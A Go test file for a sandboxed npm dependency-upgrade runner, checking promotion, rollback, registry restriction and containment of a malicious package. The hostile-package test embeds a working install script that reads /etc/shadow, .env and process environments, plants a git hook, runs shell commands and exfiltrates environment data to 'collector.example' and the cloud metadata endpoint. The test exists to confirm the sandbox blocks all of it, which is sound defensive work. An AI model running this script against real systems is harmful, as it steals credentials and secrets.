package taskref

import (
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"samkit.dev/tool/task"
)

func TestMain(m *testing.M) {
	task.Main()
	os.Exit(m.Run())
}

// each runs a test with every backend that runs Node. Where there is none it says so, and in CI fails.
func each(t *testing.T, test func(t *testing.T, b *task.Box)) {
	missing := t.Skipf
	if os.Getenv("CI") != "" {
		missing = t.Fatalf
	}
	for _, name := range []string{"node", "npm"} {
		path, err := exec.LookPath(name)
		if err == nil {
			path, err = filepath.EvalSymlinks(path)
		}
		if err != nil {
			missing("the reference task needs Node and npm: %v", err)
		}
		if !strings.HasPrefix(path, "/usr/") {
			missing("the reference task needs %s where the machine's programs are: it is %s", name, path)
		}
	}
	for _, open := range []func(*task.BoxOptions) (*task.Box, error){task.Light, task.Strong} {
		b, err := open(nil)
		if err != nil {
			fmt.Fprintln(os.Stderr, "left out:", err)
			t.Log("left out:", err)
			continue
		}
		t.Run(b.Name(), func(t *testing.T) {
			t.Cleanup(func() { b.Close() })
			test(t, b)
		})
	}
}

const (
	good = `exports.greet = name => "Hello, " + name;`
	// What the second version calls it breaks the tests of who uses the first.
	bad = `exports.welcome = name => "Welcome, " + name;`
)

// project is a Node project that has version 1.0.0 installed, with a secret, a repository, and an edit that nobody has committed.
func project(t *testing.T, r *registry) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "project")
	lock := map[string]any{
		"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
		"packages": map[string]any{
			"":                       map[string]any{"name": "app", "version": "1.0.0", "dependencies": map[string]string{r.name: "1.0.0"}},
			"node_modules/" + r.name: map[string]string{"version": "1.0.0", "resolved": r.tarball("1.0.0"), "integrity": r.integrity("1.0.0")},
		},
	}
	locked, err := json.MarshalIndent(lock, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]string{
		"package.json":      fmt.Sprintf("{\n  \"name\": \"app\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\"test\": \"node test.js\"},\n  \"dependencies\": {\n    %q: \"1.0.0\"\n  }\n}\n", r.name),
		"package-lock.json": string(locked) + "\n",
		".npmrc":            "registry=" + r.URL + "/\naudit=false\nfund=false\nupdate-notifier=false\n",
		"app.js":            fmt.Sprintf("const { greet } = require(%q);\nmodule.exports = name => greet(name) + \"!\"; // not committed\n", r.name),
		"test.js":           "const assert = require(\"assert\");\nassert.strictEqual(require(\"./app.js\")(\"Ada\"), \"Hello, Ada!\");\nconsole.log(\"passed: greets\");\n",
		".env":              "TOKEN=" + secret + "\n",
		".git/HEAD":         "ref: refs/heads/main\n",
		".git/config":       "[core]\n",
		".git/hooks/sample": "#!/bin/sh\n",
		"node_modules/" + r.name + "/package.json": fmt.Sprintf(`{"name":%q,"version":"1.0.0","main":"index.js"}`, r.name),
		"node_modules/" + r.name + "/index.js":     good,
	}
	for name, text := range files {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

const secret = "hunter2-of-the-project"

// state is all that a directory holds, with the modes and times of files, to the byte.
func state(t *testing.T, dir string) map[string]string {
	t.Helper()
	all := map[string]string{}
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		text := info.Mode().String()
		if info.Mode().IsRegular() {
			data, err := os.ReadFile(path)
			if err != nil {
				return err
			}
			text += fmt.Sprintf(" %v %s", info.ModTime(), data)
		}
		all[strings.TrimPrefix(path, dir)] = text
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return all
}

// upgrade runs the task on a directory.
func upgrade(t *testing.T, b *task.Box, dir string, r *registry, version string) (Verdict, *task.Run, error) {
	t.Helper()
	root, err := os.OpenRoot(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer root.Close()
	tk, err := Upgrade(Policy(r.host()))
	if err != nil {
		t.Fatal(err)
	}
	return tk.Run(t.Context(), task.Dir(root), Wish{r.name, version}, &task.RunOptions{Backend: b})
}

// commands is what a run executed, for messages.
func commands(run *task.Run) string {
	var all strings.Builder
	for _, s := range run.Stages {
		for _, x := range s.Execs {
			fmt.Fprintf(&all, "%s %q: exit code %d after %v %s\n%s%s", s.Name, x.Argv, x.Code, x.Duration, x.Err, x.Stdout.Head, x.Stderr.Head)
		}
		for _, r := range s.Refused {
			fmt.Fprintln(&all, s.Name, r)
		}
	}
	return all.String()
}

// An upgrade that the tests pass with is promoted: the two files that say so and what npm installed, and nothing else.
func TestPromoted(t *testing.T) {
	r := serveRegistry(t, "greeting", map[string]map[string]string{"1.0.0": {"index.js": good}, "1.1.0": {"index.js": good + " // faster"}})
	each(t, func(t *testing.T, b *task.Box) {
		dir := project(t, r)
		before := state(t, dir)
		out, run, err := upgrade(t, b, dir, r, "1.1.0")
		if err != nil {
			t.Fatalf("%v\n%s", err, commands(run))
		}
		t.Logf("%v: %v\n%s", run.Duration, run.Promoted, commands(run))
		if out != (Verdict{Upgraded{r.name, "1.0.0", "1.1.0"}, 1}) || run.Status != task.Succeeded || len(run.Stages) != 3 {
			t.Errorf("%+v, %s", out, run.Status)
		}
		after := state(t, dir)
		for _, name := range []string{"package.json", "package-lock.json", "node_modules/greeting/index.js", "node_modules/greeting/package.json"} {
			if after["/"+name] == before["/"+name] || !slices.Contains(run.Promoted, name) {
				t.Errorf("%s was not promoted: %v", name, run.Promoted)
			}
		}
		if !strings.Contains(after["/package-lock.json"], r.integrity("1.1.0")) || !strings.Contains(after["/package.json"], `"greeting": "1.1.0"`) {
			t.Errorf("%s\n%s", after["/package.json"], after["/package-lock.json"])
		}
		for name, text := range before {
			if !slices.Contains(run.Promoted, strings.TrimPrefix(name, "/")) && after[name] != text {
				t.Errorf("%s has changed: %q", name, after[name])
			}
		}
		if report := string(run.Artifact("test-report")); !strings.Contains(report, "passed: greets") {
			t.Errorf("the report of the tests is %q", report)
		}
		if patch := string(run.Artifact(task.PatchArtifact)); !strings.Contains(patch, `+    "greeting": "1.1.0"`) {
			t.Errorf("the patch is %s", patch)
		}
		trace := run.Stages[1].Execs
		if len(trace) != 1 || !slices.Equal(trace[0].Argv, []string{"npm", "install", "--save-exact", "greeting@1.1.0"}) {
			t.Errorf("%+v", trace)
		}
		if out, err := exec.Command("node", filepath.Join(dir, "test.js")).CombinedOutput(); err != nil {
			t.Errorf("with what was promoted the tests fail: %v: %s", err, out)
		}
	})
}

// An upgrade that breaks the tests leaves no trace: the directory is what it was, to the byte and to the time of each file.
func TestRolledBack(t *testing.T) {
	r := serveRegistry(t, "greeting", map[string]map[string]string{"1.0.0": {"index.js": good}, "2.0.0": {"index.js": bad}})
	each(t, func(t *testing.T, b *task.Box) {
		dir := project(t, r)
		before := state(t, dir)
		_, run, err := upgrade(t, b, dir, r, "2.0.0")
		if err == nil || run.Status != task.Failed || len(run.Promoted) > 0 {
			t.Fatalf("%v, %s, %v\n%s", err, run.Status, run.Promoted, commands(run))
		}
		if !r.served("2.0.0") || !strings.Contains(err.Error(), "stage verify") {
			t.Fatalf("it failed for another reason: %v\n%s", err, commands(run))
		}
		if after := state(t, dir); !maps.Equal(before, after) {
			t.Errorf("%v\n%v", before, after)
		}
		if report := string(run.Artifact("test-report")); !strings.Contains(report, "greet is not a function") {
			t.Errorf("the report of the tests is %q", report)
		}
		if patch := string(run.Artifact(task.PatchArtifact)); !strings.Contains(patch, `+    "greeting": "2.0.0"`) {
			t.Errorf("what was tried is not in the patch: %s", patch)
		}
	})
}

// attack is a script that npm runs when it installs a package. It writes down what it got, where it may write.
const attack = `
const fs = require("fs"), http = require("http"), net = require("net"), path = require("path"), child = require("child_process");
const top = path.resolve(__dirname, "../.."), outside = %q, secret = Buffer.from("%x", "hex").toString(), got = [];
const env = JSON.stringify(process.env);
const attempt = (name, fn) => { try { if (fn() !== false) got.push(name); } catch (e) {} };
for (const file of [outside + "/canary", outside + "/secret.txt", path.join(top, ".env"), "/etc/shadow", "/etc/sudoers"])
	attempt("read " + file, () => { fs.readFileSync(file); });
for (const file of [outside + "/canary", outside + "/new", "/etc/new", "/usr/new", %q + "/app.js", %q + "/.git/hooks/pre-commit"])
	attempt("write " + file, () => { fs.writeFileSync(file, "evil"); });
attempt("chmod", () => fs.chmodSync(outside + "/canary", 0o777));
attempt("link", () => fs.linkSync(outside + "/canary", path.join(__dirname, "linked")));
attempt("symlink", () => { fs.symlinkSync(outside, path.join(__dirname, "out")); return false; });
for (const pid of fs.readdirSync("/proc").filter(n => /^\d+$/.test(n)))
	attempt("environ " + pid, () => fs.readFileSync("/proc/" + pid + "/environ", "latin1").includes(secret));
attempt("environment", () => env.includes(secret));
attempt("shell", () => { child.execSync("cat " + outside + "/secret.txt; echo evil > " + outside + "/shell", {stdio: "ignore"}); });
// These may be made in the copy, and go no further.
for (const file of ["app.js", "test.js", ".git/hooks/pre-commit", ".env", ".npmrc", "evil.task.json"])
	attempt("", () => { fs.mkdirSync(path.dirname(path.join(top, file)), {recursive: true}); fs.writeFileSync(path.join(top, file), "evil"); return false; });
const tcp = (name, options) => new Promise(done => {
	const s = net.connect(options, () => { got.push(name); s.destroy(); done(); });
	s.on("error", () => done()); s.setTimeout(3000, () => { s.destroy(); done(); });
});
// The proxy is asked as npm asks it.
const proxied = url => new Promise(done => {
	if (!process.env.http_proxy) return done();
	const p = new URL(process.env.http_proxy);
	const headers = {host: new URL(url).host};
	if (p.username) headers["proxy-authorization"] = "Basic " + Buffer.from(p.username + ":" + p.password).toString("base64");
	http.get({host: p.hostname, port: p.port, path: url, headers}, r => { if (r.statusCode < 400) got.push("proxied " + url); r.resume(); r.on("end", done); }).on("error", () => done());
});
(async () => {
	await tcp("tcp", {host: "127.0.0.1", port: %d});
	await tcp("unix", {path: outside + "/socket"});
	await proxied("http://127.0.0.1:%d/?" + Buffer.from(env).toString("hex").slice(0, 100));
	await proxied("http://169.254.169.254/latest/meta-data/");
	await proxied("http://collector.example/steal");
	fs.writeFileSync(path.join(__dirname, "got.json"), JSON.stringify(got));
	child.spawn("sleep", ["1000"], {detached: true, stdio: "ignore"}).unref();
})();
`

// A package whose installation attacks reaches nothing, all that it tried is told, and the project has of it what a task may write.
func TestHostilePackage(t *testing.T) {
	each(t, func(t *testing.T, b *task.Box) {
		outside := t.TempDir()
		for _, name := range []string{"canary", "secret.txt"} {
			if err := os.WriteFile(filepath.Join(outside, name), []byte(secret), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		unix, err := net.Listen("unix", filepath.Join(outside, "socket"))
		if err != nil {
			t.Fatal(err)
		}
		defer unix.Close()
		var stolen atomic.Int64
		go func() {
			for {
				c, err := unix.Accept()
				if err != nil {
					return
				}
				stolen.Add(1)
				c.Close()
			}
		}()
		collector := httptest.NewUnstartedServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
		collector.Config.ConnState = func(net.Conn, http.ConnState) { stolen.Add(1) }
		collector.Start()
		defer collector.Close()
		port := collector.Listener.Addr().(*net.TCPAddr).Port
		t.Setenv("SAMKIT_TASKREF_TOKEN", secret)

		place := filepath.Join(t.TempDir(), "project") // which the script may not know, and does
		script := fmt.Sprintf(attack, outside, secret, place, place, port, port)
		r := serveRegistry(t, "greeting", map[string]map[string]string{"1.0.0": {"index.js": good}, "1.2.0": {"index.js": good, "attack.js": script}})
		dir := project(t, r)
		if err := os.Rename(dir, place); err != nil {
			t.Fatal(err)
		}
		before, beside := state(t, place), state(t, outside)
		_, run, err := upgrade(t, b, place, r, "1.2.0")
		if err != nil {
			t.Fatalf("%v\n%s", err, commands(run))
		}
		t.Logf("%s\n%s", b.Level(), commands(run))
		after := state(t, place)
		var got []string
		data, err := os.ReadFile(filepath.Join(place, "node_modules/greeting/got.json"))
		if err == nil {
			err = json.Unmarshal(data, &got)
		}
		if err != nil {
			t.Fatalf("the script has not run to its end: %v\n%s", err, commands(run))
		}
		if len(got) > 0 {
			t.Errorf("the script got %q", got)
		}
		if stolen.Load() > 0 {
			t.Errorf("%d connections came through", stolen.Load())
		}
		if now := state(t, outside); !maps.Equal(now, beside) {
			t.Errorf("outside there is %v", now)
		}
		for name, text := range before {
			if !slices.Contains(run.Promoted, strings.TrimPrefix(name, "/")) && after[name] != text {
				t.Errorf("%s has changed: %q", name, after[name])
			}
		}
		for name := range after {
			if before[name] == "" && !strings.HasPrefix(name, "/node_modules/") {
				t.Errorf("%s came", name)
			}
		}
		refused := run.Stages[1].Refused
		for _, want := range []task.Refusal{
			{Kind: "write", What: "app.js"}, {Kind: "write", What: "test.js"}, {Kind: "write", What: ".git/hooks/pre-commit"}, {Kind: "write", What: ".npmrc"}, {Kind: "write", What: "evil.task.json"}, {Kind: "write", What: ".env"}, {Kind: "write", What: "node_modules/greeting/out"},
			{Kind: "network", What: fmt.Sprintf("http://127.0.0.1:%d", port)}, {Kind: "network", What: "http://169.254.169.254"}, {Kind: "network", What: "http://collector.example"},
		} {
			if !slices.ContainsFunc(refused, func(r task.Refusal) bool { return r.Kind == want.Kind && r.What == want.What }) {
				t.Errorf("%s %s is not told: %v", want.Kind, want.What, refused)
			}
		}
		if strings.Contains(string(run.JSON()), secret) {
			t.Error("the report has the secret")
		}
		var page strings.Builder
		if err := run.HTML(&page); err != nil || strings.Contains(page.String(), secret) {
			t.Errorf("the page has the secret, %v", err)
		}
	})
}

// What is not in the lock can't come: a registry that the policy does not name is refused, the run fails, and the project stays.
func TestOtherRegistry(t *testing.T) {
	r := serveRegistry(t, "greeting", map[string]map[string]string{"1.0.0": {"index.js": good}, "1.1.0": {"index.js": good}})
	each(t, func(t *testing.T, b *task.Box) {
		dir := project(t, r)
		before := state(t, dir)
		root, err := os.OpenRoot(dir)
		if err != nil {
			t.Fatal(err)
		}
		defer root.Close()
		policy := Policy("registry.example.com")
		tk, err := Upgrade(policy)
		if err != nil {
			t.Fatal(err)
		}
		_, run, err := tk.Run(t.Context(), task.Dir(root), Wish{r.name, "1.1.0"}, &task.RunOptions{Backend: b, Env: []string{"npm_config_fetch_retries=0"}})
		if err == nil || errors.Is(err, task.ErrConflict) || run.Status != task.Failed {
			t.Fatalf("%v, %s", err, run.Status)
		}
		if r.served("1.1.0") || !maps.Equal(before, state(t, dir)) {
			t.Error("it was fetched, or the project has changed")
		}
		if !slices.ContainsFunc(run.Stages[1].Refused, func(x task.Refusal) bool { return x.Kind == "network" && x.What == r.URL }) {
			t.Errorf("%v\n%s", run.Stages[1].Refused, commands(run))
		}
	})
}
